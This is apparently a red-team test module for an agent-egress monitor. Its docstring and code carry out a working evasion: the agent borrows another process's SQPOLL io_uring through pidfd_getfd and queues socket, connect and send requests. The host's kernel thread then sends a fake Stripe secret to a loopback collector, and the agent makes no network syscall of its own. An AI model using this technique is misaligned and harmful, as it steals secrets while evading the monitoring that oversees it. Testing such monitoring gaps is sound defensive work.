"""Round 9: egress queued by the agent on an io_uring owned by a process outside its tree (SQPOLL).

Gap 1 (egress outside connect/sendto/sendmsg).  A ring host staged before
the victims (redteam/native/r9_sqring.c: an io_uring with a kernel
submission thread, 4 sparse fixed-file slots and a shared 4-KiB buffer)
hands the buffer's memfd, its pid and the ring's fd number to whoever
connects to its unix socket (the kernel refuses io_uring fds in SCM_RIGHTS,
so the agent takes the ring with ``pidfd_getfd`` from a process that is not
watched).  The agent maps both, writes a sockaddr and the secret into the
buffer, and queues four linked requests in the ring: SOCKET (into fixed slot
0), CONNECT and SEND on that slot, CLOSE -- then at most one
``io_uring_enter(SQ_WAKEUP)``.  The host's submission thread creates,
connects and sends, with the host's memory and file table: the agent made
no socket, no connect and no send of its own.  Round 1's SQPOLL variant
used a ring the agent created itself.
A detection: L4 UNKNOWN_DESTINATION for the collector's address, for the
attacked agent.
"""

from __future__ import annotations

import array
import ctypes
import mmap
import os
import socket
import struct
import time
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 9
STAGE = True
EXPECT = ("L4",)
IP = "127.0.9.4"
OP_SOCKET, OP_CONNECT, OP_SEND, OP_CLOSE = 45, 16, 26, 19
FIXED_FILE, IO_LINK = 1 << 0, 1 << 2
OFF_SQES, NR_IO_URING_ENTER, ENTER_SQ_WAKEUP, SQ_NEED_WAKEUP = 0x10000000, 426, 2, 1


def _files(work: str) -> tuple[Path, Path, Path, Path]:
    d = Path(work).parent / "daemons"
    return d / "r9-ring.sock", d / "r9-ring.pid", d / "r9-ring-sink.count", d / "r9-ring-sink.pid"


def stage(args: dict[str, Any]) -> None:
    sock, pid, count, sink = _files(args["work"])
    exe = rt.build_tool("r9_sqring.c", sock.parent / "r9_sqring")
    rt.stage_daemon([str(exe), str(sock)], pid, sock.exists)
    rt.stage_daemon(rt.sink_argv("tcp", IP, str(count)), sink, lambda: Path(str(count) + ".port").exists())


def unstage(args: dict[str, Any]) -> None:
    _, pid, _, sink = _files(args["work"])
    rt.unstage_daemon(pid)
    rt.unstage_daemon(sink)


def _sqe(
    op: int, flags: int, fd: int = 0, off: int = 0, addr: int = 0, length: int = 0, slot: int = 0
) -> bytes:
    """One 64-byte io_uring_sqe (opcode, flags, fd, off, addr, len, user_data = op, file_index)."""
    return struct.pack("<BBHiQQIIQHHIQQ", op, flags, 0, fd, off, addr, length, 0, op, 0, 0, slot, 0, 0)


def run(args: dict[str, Any]) -> None:
    sock, _, count, _ = _files(args["work"])
    port = int(Path(str(count) + ".port").read_text())
    secret = b"STRIPE_SECRET_KEY=sk_live_h7redteamRound9sqpollRing\n" * 30
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as u:
        u.settimeout(5)
        u.connect(str(sock))
        fds = array.array("i")
        msg, anc, _, _ = u.recvmsg(512, socket.CMSG_SPACE(fds.itemsize))
        for level, kind, data in anc:
            if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                fds.frombytes(data[: len(data) - len(data) % fds.itemsize])
    f = [int(x) for x in msg.split()]
    if not fds or len(f) != 15:
        rt.report(rt.now(), False, f"the ring host sent {len(fds)} fd(s) and {msg!r}")
        return
    mfd = int(fds[0])
    pidfd = rt.pidfd_open(f[13])  # io_uring fds cannot travel in SCM_RIGHTS: take it from its owner
    try:
        ring = rt.pidfd_getfd(pidfd, f[14])
    finally:
        os.close(pidfd)
    sq_n, cq_n = f[0], f[1]
    _sq_head, sq_tail, sq_mask, sq_flags, sq_array, cq_head, cq_tail, cq_mask, cqes, buf_addr = f[3:13]
    size = max(sq_array + 4 * sq_n, cqes + 16 * cq_n)
    rings = mmap.mmap(ring, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    sqes = mmap.mmap(ring, 64 * sq_n, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=OFF_SQES)
    buf = mmap.mmap(mfd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    u32 = struct.Struct("<I")
    try:
        sa = struct.pack("<H", socket.AF_INET) + struct.pack(
            "!H4s8x", port, socket.inet_aton(rt.loopback(IP))
        )
        buf[0:16] = sa
        buf[64 : 64 + len(secret)] = secret
        reqs = [
            _sqe(OP_SOCKET, IO_LINK, fd=socket.AF_INET, off=socket.SOCK_STREAM, slot=1),
            _sqe(OP_CONNECT, FIXED_FILE | IO_LINK, fd=0, off=16, addr=buf_addr),
            _sqe(OP_SEND, FIXED_FILE | IO_LINK, fd=0, addr=buf_addr + 64, length=len(secret)),
            _sqe(OP_CLOSE, 0, slot=1),
        ]
        before = rt.wait_count(count, 0, 0)
        mask = u32.unpack_from(rings, sq_mask)[0]
        tail = u32.unpack_from(rings, sq_tail)[0]
        head0 = u32.unpack_from(rings, cq_head)[0]
        t = rt.now()
        for i, r in enumerate(reqs):
            idx = (tail + i) & mask
            sqes[64 * idx : 64 * idx + 64] = r
            u32.pack_into(rings, sq_array + 4 * idx, idx)
        u32.pack_into(rings, sq_tail, tail + len(reqs))  # x86: stores are not reordered with stores
        if u32.unpack_from(rings, sq_flags)[0] & SQ_NEED_WAKEUP:
            c = ctypes.c_long
            rt.libc().syscall(c(NR_IO_URING_ENTER), c(ring), c(0), c(0), c(ENTER_SQ_WAKEUP), None, c(0))
        res: dict[int, int] = {}
        end = time.monotonic() + 5
        while len(res) < len(reqs) and time.monotonic() < end:
            head, ctail = u32.unpack_from(rings, cq_head)[0], u32.unpack_from(rings, cq_tail)[0]
            while head != ctail:
                at = cqes + 16 * (head & u32.unpack_from(rings, cq_mask)[0])
                user, r = struct.unpack_from("<Qi", rings, at)
                res[int(user)] = int(r)
                head += 1
            u32.pack_into(rings, cq_head, head)
            time.sleep(0.01)
        got = rt.wait_count(count, before + len(secret), 5) - before
        u32.pack_into(rings, cq_head, max(head0, u32.unpack_from(rings, cq_head)[0]))
    finally:
        for m in (rings, sqes, buf):
            m.close()
        os.close(ring)
        os.close(mfd)
    ok = got >= len(secret)
    rt.report(
        t,
        ok,
        f"SOCKET/CONNECT/SEND/CLOSE run by the ring host's SQ thread: results {res}; {IP}:{port} got {got} B",
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
